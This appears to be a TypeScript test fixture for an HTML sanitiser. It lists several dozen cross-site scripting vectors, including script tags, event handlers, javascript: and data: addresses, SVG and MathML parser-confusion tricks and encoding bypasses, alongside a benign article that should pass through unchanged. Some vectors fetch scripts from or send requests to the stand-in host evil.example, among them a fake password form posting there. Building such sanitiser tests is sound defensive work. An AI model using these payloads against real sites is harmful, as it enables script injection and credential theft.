/** One attack: what it tries, and the markup. Code sets `window.__xss` and opens a dialog; requests go to `evil.example`. */
export interface Vector {
  readonly name: string;
  readonly markup: string;
}

const run = 'window.__xss=1;alert(1)';
const img = `<img src=x onerror="${run}">`;
const evil = 'https://evil.example';

/** Plain script and handlers. */
const scripts: Readonly<Record<string, string>> = {
  'a script': `<script>${run}</script>`,
  'a script in capitals with a tab': `<SCRIPT\t>${run}</SCRIPT\n>`,
  'a script from elsewhere': `<script src="${evil}/x.js"></script>`,
  'a script that is put together by removal': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'a script with a slash for a blank': `<script/x>${run}</script>`,
  'a script that is never closed': `<p>a</p><script>${run}`,
  'a module script': `<script type="module">${run}</script>`,
  'an import map': `<script type="importmap">{"imports":{"x":"${evil}/x.js"}}</script>`,
  'two brackets': `<<script>${run}//<</script>`,
  'NUL in the name of a tag': `<scr\0ipt>${run}</scr\0ipt>`,
  'NUL before the name of a tag': `<\0script>${run}</script>`,
  'an image that fails': img,
  'a handler after a slash': `<img/src=x/onerror="${run}">`,
  'a handler in back quotes': `<img src=\`x\` onerror=\`${run}\`>`,
  'a handler after a quote that is never closed': `<img """><script>${run}</script>">`,
  'a handler with a NUL in its name': `<img src=x on\0error="${run}">`,
  'a handler after a vertical tab': `<img\x0bsrc=x\x0bonerror="${run}">`,
  'a handler on allowed markup': `<p onclick="${run}" onmouseover="${run}" onpointerrawupdate="${run}">x</p>`,
  'a handler that runs by animation': `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${run}">x</p>`,
  'details that open': `<details open ontoggle="${run}"><summary>x</summary>y</details>`,
  'a popover': `<button popovertarget=x>x</button><p popover id=x onbeforetoggle="${run}">y</p>`,
  'focus by itself': `<input autofocus onfocus="${run}"><p tabindex=1 autofocus onfocus="${run}" contenteditable>x</p>`,
  'the body’s own handlers': `<body onload="${run}" onpageshow="${run}"><p>x</p></body>`,
  'media that fail': `<video src=x onerror="${run}"></video><audio src=x onerror="${run}"></audio><video><source onerror="${run}"></video>`,
  'a marquee': `<marquee onstart="${run}">x</marquee>`,
  'an attribute without a blank before it': `<a href="https://ok.example"onclick="${run}">x</a>`,
  'an attribute that ends the tag': `<a title="x>y" href='"><script>${run}</script>'>x</a>`,
};

/** Addresses that are code. */
const addresses: Readonly<Record<string, string>> = {
  'a javascript link': `<a href="javascript:${run}">x</a>`,
  'mixed case': `<a href="JaVaScRiPt:${run}">x</a>`,
  'a tab inside': `<a href="java\tscript:${run}">x</a>`,
  'a line break inside': `<a href="java\nscript:${run}">x</a>`,
  'an entity for a tab': `<a href="java&Tab;script:${run}">x</a>`,
  'an entity for a line break': `<a href="java&NewLine;script&colon;${run}">x</a>`,
  'decimal entities': `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}">x</a>`,
  'long entities without semicolons': `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${run}">x</a>`,
  'hexadecimal entities': `<a href="&#x6A;&#x61;&#x76;&#x61;script:${run}">x</a>`,
  'control characters before it': `<a href=" &#14;\x01\x1f javascript:${run}">x</a>`,
  'NUL inside': `<a href="java\0script:${run}">x</a>`,
  'a comment inside': `<a href="java<!-- -->script:${run}">x</a>`,
  vbscript: `<a href="vbscript:msgbox(1)">x</a>`,
  'data with markup': `<a href="data:text/html,<script>${run}</script>">x</a>`,
  'data in base64': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'a blob': `<a href="blob:${evil}/1">x</a>`,
  'an address without a scheme': '<a href="//evil.example/">x</a>',
  'backslashes for slashes': '<a href="\\\\evil.example/">x</a><a href="/\\evil.example/">x</a>',
  'an image of code': `<img src="javascript:${run}">`,
  'an image of data': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'a set of images': `<img srcset="javascript:${run} 1x, //evil.example/x 2x" src="data:text/html,x">`,
  'an image of old browsers': `<img lowsrc="javascript:${run}" dynsrc="javascript:${run}" longdesc="javascript:${run}">`,
  'a poster and a background': `<video poster="javascript:${run}"></video><table background="javascript:${run}"><tr><td background="${evil}/x">x</td></tr></table>`,
  'the source of a quotation': `<blockquote cite="javascript:${run}">x</blockquote><q cite="data:text/html,x">y</q>`,
  'a ping': `<a href="https://ok.example" ping="${evil}/p" target="_blank" rel="opener" download>x</a>`,
  'an area of a map': `<img usemap="#m" src="/assets/icon.svg"><map name=m><area shape=default href="javascript:${run}"></map>`,
};

/** Other documents, forms, styles. */
const documents: Readonly<Record<string, string>> = {
  'a frame with markup': `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'a frame of code': `<iframe src="javascript:parent.${run}"></iframe>`,
  'a frame that is never closed': `<iframe><p>x</p>${img}`,
  frames: `<frameset onload="${run}"><frame src="javascript:${run}"></frameset>`,
  'an object': `<object data="javascript:${run}"></object><object data="${evil}/x.swf"><param name=x value=y></object>`,
  'an embed': `<embed src="javascript:${run}"><applet code="X" archive="${evil}/x.jar"></applet>`,
  'a form that looks like the site’s': `<form action="${evil}"><label>Password <input name=password></label><button>Sign in</button></form>`,
  'a button with its own address': `<form id=f></form><button form=f formaction="javascript:${run}">x</button><input type=image src=x formaction="javascript:${run}">`,
  'a style': `<style>@import "${evil}/x.css";body{background:url(${evil}/y)}</style>`,
  'a style of an element': `<p style="background:url(${evil}/x);position:fixed;inset:0;behavior:url(x.htc);-moz-binding:url(x)">x</p>`,
  'a link to a style': `<link rel=stylesheet href="${evil}/x.css"><link rel=preload as=image href="${evil}/p"><link rel=prefetch href="${evil}/f">`,
  'a redirect': `<meta http-equiv=refresh content="0;url=${evil}"><meta http-equiv="Content-Security-Policy" content="script-src *">`,
  'another base': `<base href="${evil}/"><a href="x">x</a>`,
  'a portal and a dialog': `<portal src="${evil}"></portal><dialog open onclose="${run}"><form method=dialog><button autofocus>x</button></form></dialog>`,
};

/** Markup that two parsers read in two ways. */
const mutations: Readonly<Record<string, string>> = {
  'math, a table and a style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'math, a table and a style in a comment': `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror="${run}">">`,
  'a form in a form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  'a style in svg': `<svg><style>${img}</style></svg>`,
  'a style in svg that is closed by an attribute': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  'svg that handles its own load': `<svg onload="${run}"><svg/onload="${run}">`,
  'svg that animates': `<svg><animate onbegin="${run}" attributeName=x dur=1s><set attributeName=href to="javascript:${run}"></svg>`,
  'an svg link': `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>x</text></a></svg>`,
  'svg that uses another': `<svg><use href="data:image/svg+xml,<svg id=x><script>${run}</script></svg>#x"></use></svg>`,
  'svg with foreign markup': `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
  'a script of svg with entities': `<svg><script>window.__xss=1&#59;alert&lpar;1&rpar;</script></svg>`,
  'svg with a description': `<svg><desc><noscript></desc></svg>${img}</noscript>`,
  'a title in svg': `<svg><title><style><a title="</style></title></svg><img src=x onerror=${run}>">`,
  'a math link': `<math href="javascript:${run}">x</math><math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  'annotation in math': `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run}"></style></annotation-xml></math>`,
  'noscript with an attribute': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'noscript with a style': `<noscript><style></noscript><img src=x onerror="${run}"></style>`,
  'noembed and noframes': `<noembed><p title="</noembed><img src=x onerror=${run}>"></noembed><noframes><p title="</noframes><img src=x onerror=${run}>"></noframes>`,
  'a template': `<template><script>${run}</script></template><div><template shadowrootmode=open><img src=x onerror="${run}"></template></div>`,
  'a textarea with an attribute': `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
  'an xmp with an attribute': `<xmp><p title="</xmp><svg onload=${run}>">`,
  'an xmp with entities': `<xmp>&lt;img src=x onerror=${run}&gt;</xmp>`,
  'a title with an attribute': `<title><p id="</title><img src=x onerror=${run}>"></title>`,
  'an option with entities': `<select><option>&lt;script&gt;${run}&lt;/script&gt;</option></select>`,
  'a select with a script': `<select><script>${run}</script><style></select><img src=x onerror="${run}"></style></select>`,
  plaintext: `<plaintext><script>${run}</script>${img}`,
  'a comment with a bang': `<!--!><img src=x onerror="${run}">--><!--><img src=x onerror="${run}">-->`,
  'a comment that ends early': `<!-- --!><img src=x onerror="${run}"> -->`,
  'a comment for old browsers': `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  'a CDATA section': `<![CDATA[<script>${run}</script>]]><svg><![CDATA[><img src=x onerror="${run}">]]></svg>`,
  'a processing instruction': `<?xml version="1.0"?><?php echo "<script>${run}</script>"; ?><!DOCTYPE x [<!ENTITY y "<script>${run}</script>">]>&y;`,
  'a broken end tag': `</p title="><img src=x onerror=${run}>"></script foo="><img src=x onerror=${run}>">`,
  'entities in text, twice': `&lt;img src=x onerror=${run}&gt; &amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  'entities without semicolons': `&ltscript&gt${run}&lt/script&gt`,
  'a table that throws out its parts': `<table><tr><svg><style><img src=x onerror="${run}"></style></svg><p>x<td>y</table>`,
  'a table in a table': `<table><article><table></table></article></table></article></main></body></html><script>${run}</script>`,
  'deep formatting': `${'<b><i><a href="https://ok.example">'.repeat(20)}<table>${'</b></i></a>'.repeat(20)}<style></table><img src=x onerror="${run}">`,
  'ids and names of the page’s own': `<a id=location href="https://ok.example">x</a><img name=cookie src="/assets/icon.svg"><form name=body id=createElement><input name=attributes></form><p id=__proto__ class=toString>x</p>`,
  'the custom element of a page': `<x-evil onclick="${run}" is="x"><slot name=y></slot></x-evil><p is="x-evil">x</p>`,
  'half a character': `<p title="\ud800"><img src=x onerror="${run}">\udfff</p>`,
  'an overlong UTF-8 bracket and UTF-7': `\u00c0\u00bcscript>${run}</script>+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  'a wide bracket': `＜script＞${run}＜/script＞`,
};

/** From the cheat sheets of OWASP and PortSwigger, html5sec and published bypasses of sanitisers. */
export const vectors: readonly Vector[] = [scripts, addresses, documents, mutations].flatMap((group) =>
  Object.entries(group).map(([name, markup]) => ({ name, markup })),
);

/** What an article needs, written as the sanitiser writes it: it stays as it is. */
export const article =
  '<h2 id="content-part">Über uns</h2><p class="lead" lang="de">A <strong>b</strong> <em>c</em><br /><code>d</code> <a href="https://ok.example/?a=1&amp;b=2" rel="noopener nofollow ugc">e</a> <a href="mailto:a@b.example" rel="noopener nofollow ugc">f</a> <a href="#content-part" rel="noopener nofollow ugc">g</a></p>' +
  '<ul><li>h</li></ul><ol start="3"><li>i</li></ol><dl><dt>j</dt><dd>k</dd></dl><details><summary>l</summary>m</details>' +
  '<table><caption>n</caption><colgroup><col span="2" /></colgroup><thead><tr><th scope="col">o</th></tr></thead><tbody><tr><td colspan="2">p</td></tr></tbody></table>' +
  '<figure><img src="/assets/icon.svg" alt="q" width="10" height="10" loading="lazy" /><figcaption>r</figcaption></figure><blockquote cite="https://x.example/">s</blockquote><pre><code>t &lt;u&gt;</code></pre><hr /><p>v<sup>2</sup> <time datetime="2026-11-21">w</time> x<wbr />y</p>';
